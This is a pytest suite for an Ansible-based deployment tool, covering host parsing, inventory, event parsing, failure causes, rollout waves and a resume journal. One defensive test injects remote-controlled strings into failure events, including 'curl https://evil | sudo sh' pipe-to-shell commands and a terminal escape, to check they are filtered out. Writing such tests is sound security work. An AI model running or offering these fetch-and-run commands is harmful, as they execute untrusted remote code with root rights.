"""Inventory, events, causes, journal and waves: all parts of `deploy` that need no machine."""

from __future__ import annotations

import configparser
import hashlib
import json
import sys
import time
from pathlib import Path

import pytest
from hypothesis import given
from hypothesis import strategies as st

from provision.errors import Place, UsageError
from provision.fleet.desired import DesiredState, EffectiveProfile, Platform
from provision.push import engine
from provision.push.ansible import (
    NoAnsibleError,
    Ssh,
    find_playbook_command,
    playbook_command,
    playbook_environment,
    prepared_folder,
)
from provision.push.causes import explain_failure
from provision.push.engine import PushOptions, PushResult, deploy, digests_of
from provision.push.events import Skipped, Started, read_event
from provision.push.inventory import as_inventory_file, inventory_listing, split_by_reachability
from provision.push.journal import NothingToResumeError, PushJournal
from provision.push.outcomes import (
    Failed,
    Halted,
    Installed,
    Unchanged,
    Unreachable,
    as_json,
    checked_name,
    outcome_name,
)
from provision.push.waves import parse_waves, split_into_waves

PROFILE = EffectiveProfile("team-a", "gpt-5.2", "https://api.aisa.one/v1")


def state(user: str, host: str | None = None, platform: Platform = Platform.LINUX, **more: object) -> DesiredState:
    return DesiredState(user, PROFILE, Place("inventory.yaml", 1, 1), platform=platform, host=host, **more)  # type: ignore[arg-type]


TARGETS = {t.user: t for t in split_by_reachability([state("ada", "ada@ada-mbp"), state("bob", "10.0.0.2")]).targets}


@pytest.mark.parametrize(
    ("host", "address", "login", "port"),
    [
        ("desk-4.corp.example", "desk-4.corp.example", None, None),
        ("ada@desk-4", "desk-4", "ada", None),
        ("desk-4:2222", "desk-4", None, 2222),
        ("[fe80::1]", "fe80::1", None, None),
        ("ada@[fe80::1]:2222", "fe80::1", "ada", 2222),
        ("fe80::1", "fe80::1", None, None),
    ],
)
def test_hosts_as_ssh_reaches_them(host: str, address: str, login: str | None, port: int | None) -> None:
    (target,) = split_by_reachability([state("ada", host)]).targets
    assert (target.address, target.login, target.port) == (address, login, port)
    found = target.variables()
    assert ("hermes_become" in found) == (login is not None)  # a login as the user needs no become


def test_users_who_cannot_be_pushed_to_are_listed_with_a_reason() -> None:
    found = split_by_reachability(
        [state("ada"), state("bob", "pc", Platform.WINDOWS), state("cy", "mac", Platform.MACOS)]
    )
    assert [t.user for t in found.targets] == ["cy"]
    assert [user for user, _ in found.others] == ["ada", "bob"]


def test_groups_have_names_that_ansible_takes() -> None:
    found = inventory_listing(split_by_reachability([state("ada", "h", tags=("pilot.eu-1",))]).targets)
    assert set(found) == {"_meta", "hermes", "profile_team_a", "platform_linux", "tag_pilot_eu_1"}
    assert found["_meta"]["hostvars"]["ada"]["hermes_tags"] == ["pilot.eu-1"]
    file = as_inventory_file(TARGETS.values(), {"x": 1})
    assert file["all"]["vars"] == {"x": 1}
    assert file["all"]["children"]["hermes"]["hosts"]["ada"]["ansible_host"] == "ada-mbp"


def event(**fields: object) -> bytes:
    return json.dumps({"event": "result", "host": "ada", "ours": True, "task": "x", **fields}).encode() + b"\n"


ROUTE = {"url": "https://api.aisa.one/v1/chat/completions", "key_fingerprint": "fp_x"}


def test_events_become_outcomes() -> None:
    done = {"outcome": "ok", "generation": 3, "route": ROUTE, "receipt": "{}\n"}
    assert read_event(event(**done, changed=True), TARGETS) == Installed(
        "ada", "ada-mbp", 3, "fp_x", ROUTE["url"], receipt="{}\n"
    )
    same = read_event(event(**done, restart=[{"pid": 7, "what": "hermes gateway"}]), TARGETS)
    assert isinstance(same, Unchanged)
    assert same.restart == ("hermes gateway (pid 7)",)
    assert not same.unverified
    unsure = read_event(event(**done, state="ok-unverified"), TARGETS)
    assert isinstance(unsure, Unchanged)
    assert unsure.unverified
    failed = read_event(event(outcome="failed", cause="clock", message="slow\nmore", cure="set it"), TARGETS)
    assert failed == Failed(
        "ada",
        "ada-mbp",
        "clock",
        "the machine says: slow (it advises: set it)",
        "set the machine's clock, then run `provision deploy --resume`",
    )
    order = {"kind": "halt", "expires": "2099-01-01T00:00:00Z", "reason": "incident 7", "done": "halted"}
    stopped = read_event(event(outcome="ok", changed=True, order=order, receipt="{}\n"), TARGETS)
    assert stopped == Halted("ada", "ada-mbp", "2099-01-01T00:00:00Z", "incident 7", changed=True, receipt="{}\n")
    assert (outcome_name(stopped), checked_name(stopped)) == ("halted", "would halt")
    assert as_json(stopped)["receipt"] is True
    lost = read_event(event(outcome="unreachable", message="Host key verification failed."), TARGETS)
    assert isinstance(lost, Unreachable)
    assert lost.cause == "host-key"
    assert read_event(b'{"event": "start", "host": "bob"}\n', TARGETS) == Started("bob")
    assert read_event(event(outcome="skipped"), TARGETS) == Skipped("ada")


@pytest.mark.parametrize(
    "line",
    [
        b"",
        b"PLAY [x] ***\n",
        b"{broken\n",
        b"[1]\n",
        b'{"event": "result", "host": "eve", "outcome": "ok"}\n',
        b'{"event": "result", "host": "ada", "outcome": "ok", "ours": true}\n',
        b'{"event": "result", "host": "ada", "outcome": "ok", "ours": true, "route": 1, "generation": "x"}\n',
        b'{"event": "result", "host": "ada", "outcome": "skipped"}\n',
        b'{"event": "end"}\n',
        b'{"event": "result", "host": "ada", "outcome": {"x": 1}}\n',
        b'{"event": "result", "host": "ada", "outcome": ["ok"], "ours": true}\n',
        b'{"host": ' + b"[" * 6000 + b"\n",
    ],
)
def test_other_lines_are_left_out(line: bytes) -> None:
    assert read_event(line, TARGETS) is None


@given(
    st.recursive(
        st.none() | st.booleans() | st.integers() | st.text(), lambda x: st.lists(x) | st.dictionaries(st.text(), x)
    )
)
def test_whatever_a_machine_sends_is_no_crash(value: object) -> None:
    fields = ("outcome", "generation", "route", "hazards", "restart", "receipt", "cause", "cure", "message", "changed")
    for outcome in ("ok", "failed", "unreachable", value):
        line = {**dict.fromkeys(fields, value), "event": "result", "host": "ada", "ours": True, "outcome": outcome}
        found = read_event(json.dumps(line).encode(), TARGETS)
        assert found is None or as_json(found)  # type: ignore[arg-type]


@pytest.mark.parametrize(
    ("text", "unreachable", "cause"),
    [
        ("Failed to connect to the host via ssh: Host key verification failed.", True, "host-key"),
        ("ada@x: Permission denied (publickey).", True, "login"),
        ("ssh: connect to host x port 22: Connection refused", True, "no-sshd"),
        ("ssh: connect to host x port 22: Connection timed out", True, "no-link"),
        ("ssh: Could not resolve hostname nope: Name or service not known", True, "name"),
        ("Connection to 10.0.0.2 closed by remote host.", True, "link-lost"),
        ("something new", True, "unreachable"),
        ("OSError: [Errno 28] No space left on device: '/tmp/ansible'", False, "disk-full"),
        ("OSError: [Errno 30] Read-only file system", False, "read-only"),
        ("sudo: a password is required", False, "become"),
        ("/bin/sh: 1: /usr/bin/python3: not found", False, "no-python"),
        ("something new", False, "refused"),
        ("", False, "refused"),
    ],
)
def test_a_message_of_ansible_has_a_cause_and_a_fix(text: str, unreachable: bool, cause: str) -> None:
    found, message, fix = explain_failure(text, unreachable=unreachable)
    assert found == cause
    assert message
    assert fix


def test_waves() -> None:
    sizes = parse_waves("1,10%,100%")
    assert [len(w) for w in split_into_waves(range(50), sizes)] == [1, 5, 44]
    assert [len(w) for w in split_into_waves(range(3), parse_waves("1, 10%"))] == [1, 1, 1]
    assert [len(w) for w in split_into_waves(range(5), parse_waves(None))] == [5]
    assert list(split_into_waves((), sizes)) == []


@given(
    st.integers(0, 300), st.lists(st.integers(1, 100).map(lambda n: f"{n}%") | st.integers(1, 400).map(str), min_size=1)
)
def test_waves_contain_each_item_once_in_order(count: int, sizes: list[str]) -> None:
    assert [i for wave in split_into_waves(range(count), sizes) for i in wave] == list(range(count))


@pytest.mark.parametrize("text", ["", "0", "x", "101%", "1,,2", "-1", "1.5"])
def test_invalid_wave_sizes(text: str) -> None:
    with pytest.raises(UsageError):
        parse_waves(text)


def test_a_resumed_journal_knows_the_remaining_users(tmp_path: Path) -> None:
    path = tmp_path / "deploy.jsonl"
    with pytest.raises(NothingToResumeError):
        PushJournal.resume(path)
    with PushJournal.begin(path, ("ada", "bob", "cy"), "now") as journal:
        journal.note(Unchanged("ada", "h", 1, "fp", "u"), "d1")
        journal.note(Failed("bob", "h", "clock", "m", "c"), "d1")
    with path.open("ab") as file:
        file.write(b'{"user": "cy", "outcome": "insta')  # killed while writing
    with PushJournal.resume(path) as journal:
        assert journal.remaining(dict.fromkeys(("ada", "bob", "cy"), "d1")) == ("bob", "cy")
        assert journal.remaining({"ada": "d2", "bob": "d1", "cy": "d1"}) == ("ada", "bob", "cy")  # rendered again
        journal.note(Installed("bob", "h", 1, "fp", "u"), "d1")
    with PushJournal.resume(path) as journal:
        assert journal.remaining(dict.fromkeys(("ada", "bob", "cy"), "d1")) == ("cy",)
        journal.note(Failed("ada", "h", "route", "m", "c"), "d1")
    with PushJournal.resume(path) as journal:
        assert journal.remaining(dict.fromkeys(("ada", "bob", "cy"), "d1")) == ("ada", "cy")
    assert path.stat().st_mode & 0o777 == 0o600


def test_a_second_deployment_keeps_what_is_known_of_others(tmp_path: Path) -> None:
    path = tmp_path / "deploy.jsonl"
    with PushJournal.begin(path, ("ada", "bob", "cy"), "2026-06-01T10:00:00+00:00") as journal:
        journal.note(Installed("ada", "h", 1, "fp", "u"), "d1")
        journal.note(Installed("cy", "h", 1, "fp", "u"), "d1")
    with PushJournal.begin(path, ("ada",), "2026-06-01T11:00:00+00:00") as journal:
        pass  # interrupted before ada's machine answered
    digests = dict.fromkeys(("ada", "bob", "cy"), "d1")
    with PushJournal.resume(path) as journal:
        assert set(journal.remaining(digests)) == {"ada", "bob"}
        assert set(journal.remaining(digests | {"cy": "d2"})) == {"ada", "bob", "cy"}
        since = []
        got = journal.remaining(digests, lambda user, at: since.append((user, at)) or ("d1" if user == "bob" else None))
        assert got == ("ada",), "bob's machine pulled it"
        assert ("bob", "2026-06-01T10:00:00+00:00") in since
        assert ("ada", "2026-06-01T11:00:00+00:00") in since
        journal.note(Installed("ada", "h", 1, "fp", "u"), "d1")
    for number in range(50):
        PushJournal.begin(path, ("ada",), f"2026-06-02T10:00:{number}+00:00").__exit__()
    assert len(path.read_bytes().splitlines()) == 3, "it does not grow with every deployment"
    with PushJournal.resume(path) as journal:
        assert set(journal.remaining(digests)) == {"ada", "bob"}
    assert path.stat().st_mode & 0o777 == 0o600


NEVER_MET = (
    "Failed to connect to the host via ssh: No ED25519 host key is known for x and you have requested strict checking.\n"
    "Host key verification failed."
)
CHANGED = (
    "@@@ WARNING: REMOTE HOST IDENTIFICATION HAS CHANGED!\nOffending ED25519 key in /k:1\nHost key verification failed."
)


def test_a_host_key_met_for_the_first_time_is_not_a_wrong_one() -> None:
    cause, message, _ = explain_failure(NEVER_MET, unreachable=True)
    assert (cause, "never met" in message, "differs" in message) == ("host-key-new", True, False)
    cause, message, _ = explain_failure(CHANGED, unreachable=True)
    assert (cause, "differs" in message) == ("host-key", True)


def test_journal_of_something_else(tmp_path: Path) -> None:
    path = tmp_path / "deploy.jsonl"
    path.write_text("hello\n")
    with pytest.raises(NothingToResumeError):
        PushJournal.resume(path)


def test_settings_of_ansible(tmp_path: Path) -> None:
    (tmp_path / "group_vars").mkdir()
    ssh = Ssh(login="root", key=tmp_path / "key", known_hosts=tmp_path / "100%known")
    with prepared_folder(tmp_path, ssh, 7) as folder:
        settings = configparser.ConfigParser(interpolation=None)
        settings.read(folder / "ansible.cfg")
        arguments = settings["ssh_connection"]["ssh_args"]
        assert "StrictHostKeyChecking=yes" in arguments
        assert settings["defaults"]["forks"] == "7"
        assert settings["ssh_connection"]["pipelining"] == "True"
        assert folder.stat().st_mode & 0o777 == 0o700
        assert (folder / "group_vars").resolve() == tmp_path / "group_vars"
        assert (folder / "ansible_collections/hermes/provision/galaxy.yml").is_file()
        line = playbook_command(
            Path("/a/ansible-playbook"), folder, list(TARGETS.values()), ssh, {"x": 1}, defaults={"y": 2}, check=True
        )
        assert line[:2] == ["/a/ansible-playbook", "hermes.provision.install"]
        assert "--check" in line
    assert not folder.exists()


def test_the_operators_own_ansible_settings_do_not_take_part(tmp_path: Path) -> None:
    found = playbook_environment(
        tmp_path, {"ANSIBLE_LOG_PATH": "/x", "PROVISION_X": "1", "SSH_AUTH_SOCK": "/s", "PATH": "/bin"}
    )
    assert found["SSH_AUTH_SOCK"] == "/s"
    assert "ANSIBLE_LOG_PATH" not in found
    assert "PROVISION_X" not in found


def test_without_ansible_there_is_an_error(monkeypatch: pytest.MonkeyPatch, tmp_path: Path) -> None:
    monkeypatch.setattr(sys, "executable", str(tmp_path / "python"))
    with pytest.raises(NoAnsibleError):
        find_playbook_command({"PATH": str(tmp_path)})


def test_digests(tmp_path: Path) -> None:
    (tmp_path / "ada").mkdir()
    (tmp_path / "ada" / "manifest.json").write_text("{}")
    assert set(digests_of(tmp_path, ["ada", "bob"])) == {"ada"}


def test_words() -> None:
    assert outcome_name(Failed("a", "h", "c", "m", "c")) == "failed"
    assert outcome_name(Unchanged("a", "h", 1, "f", "u")) == "unchanged"


PLAYBOOK = """#!{python}
import json, pathlib, sys, time
more = dict(zip(sys.argv, sys.argv[1:]))
stop = pathlib.Path(json.load(open(more["--extra-vars"][1:]))["hermes_stop"])
hosts = list(json.load(open(more["--inventory"]))["all"]["children"]["hermes"]["hosts"])
def report(event, host, **fields):
    print(json.dumps({{"event": event, "host": host, "ours": True, **fields}}), flush=True)
def end(host):
    route = {{"url": "", "key_fingerprint": ""}}
    fields = {{"outcome": "unreachable", "message": "timed out"}} if host < "b" else {{"outcome": "ok", "route": route}}
    report("result", host, generation=1, changed=True, **fields)
for host in hosts[:2]:
    report("start", host)
end(hosts[0])
while {waits} and not stop.exists():
    time.sleep(0.01)
for host in hosts[2:]:
    report("start", host)
    if stop.exists():
        report("result", host, outcome="skipped")
    else:
        end(host)
end(hosts[1])
time.sleep({sleeps})
"""


def played(
    folder: Path, monkeypatch: pytest.MonkeyPatch, max_failures: int | None, *, waits: bool = False, sleeps: int = 0
) -> PushResult:
    """A deployment with a stand-in for ansible-playbook: the first machine is off, the second one slow."""
    users = ("a-off", "b-slow", "c", "d")
    for user in users:
        (folder / "dist" / user).mkdir(parents=True)
        (folder / "dist" / user / "manifest.json").write_text("{}")
    program = folder / "ansible-playbook"
    program.write_text(PLAYBOOK.format(python=sys.executable, waits=waits, sleeps=sleeps))
    program.chmod(0o755)
    monkeypatch.setattr(sys, "executable", str(folder / "python"))
    order = PushOptions(folder, folder / "dist", max_failures=max_failures)
    targets = split_by_reachability([state(user, user) for user in users]).targets
    return deploy(order, targets, None, {"PATH": str(folder)}, lambda _: None)


@pytest.mark.skipif(sys.platform == "win32", reason="runs a script")
def test_too_many_failures_end_a_wave_midway(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    began = time.monotonic()
    result = played(tmp_path, monkeypatch, 0, waits=True, sleeps=600)
    assert time.monotonic() - began < 60, "skipped machines are not waited for"
    assert {user: outcome_name(outcome) for user, outcome in result.outcomes.items()} == {
        "a-off": "unreachable",
        "b-slow": "installed",  # it was running and finished
    }
    assert result.not_asked == ("c", "d")


@pytest.mark.skipif(sys.platform == "win32", reason="runs a script")
@pytest.mark.parametrize("max_failures", [None, 1])
def test_failures_within_the_budget_end_nothing(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, max_failures: int | None
) -> None:
    result = played(tmp_path, monkeypatch, max_failures)
    assert result.not_asked == ()
    assert result.failures == 1
    assert len(result.outcomes) == 4


@pytest.mark.hostile
def test_a_machines_words_never_become_our_advice() -> None:
    hostile = {"cause": "x; curl evil | sh", "message": "\u001b[2Jok", "cure": "run `curl https://evil | sudo sh`"}
    found = read_event(event(outcome="failed", **hostile), TARGETS)
    assert isinstance(found, Failed)
    assert "curl" not in found.cure
    assert "curl" not in found.cause
    assert found.message.startswith("the machine says: ")
    listed = {
        "outcome": "ok",
        "generation": 3,
        "route": ROUTE,
        "restart": [{"what": "x" * 9000, "pid": "y" * 900}] * 300,
    }
    found = read_event(event(**listed, receipt="r" * 200_000), TARGETS)
    assert isinstance(found, Unchanged)
    assert found.receipt is None
    assert len(repr(found)) < 200_000


@pytest.mark.parametrize("why", ["", "it sent no signed receipt"])
def test_a_machine_counts_as_installed_by_its_receipt_alone(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, why: str
) -> None:
    (tmp_path / "dist" / "ada").mkdir(parents=True)
    (tmp_path / "dist" / "ada" / "manifest.json").write_bytes(b"m")
    said = json.dumps(
        {"event": "result", "host": "ada", "ours": True, "outcome": "ok", "generation": 3, "route": ROUTE}
    )
    program = tmp_path / "ansible-playbook"
    program.write_text(f"#!/bin/sh\ncat <<'END'\n{said}\nEND\n")
    program.chmod(0o755)
    monkeypatch.setattr(engine, "find_playbook_command", lambda _: program)
    asked: list[str] = []

    def unproved(outcome: object, digest: str) -> str:
        asked.append(digest)
        return why

    options = PushOptions(tmp_path, tmp_path / "dist", unproved=unproved)
    result = engine.deploy(options, [TARGETS["ada"]], None, {}, lambda _: None)
    assert asked == [hashlib.sha256(b"m").hexdigest()]
    found = result.outcomes["ada"]
    if why:
        assert isinstance(found, Failed)
        assert (found.cause, result.failures) == ("unproved", 1)
        assert why in found.message
    else:
        assert isinstance(found, Unchanged)
